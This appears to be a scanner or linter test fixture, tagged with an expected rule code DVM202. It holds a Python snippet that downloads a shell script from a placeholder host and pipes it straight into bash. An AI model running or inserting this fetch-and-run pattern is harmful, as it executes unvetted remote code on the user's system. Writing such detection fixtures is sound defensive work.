# expect: DVM202
python3 - <<'PY'
import subprocess, urllib.request
code = urllib.request.urlopen("https://example.org/i.sh").read()
subprocess.run(["bash"], input=code, check=True)
PY
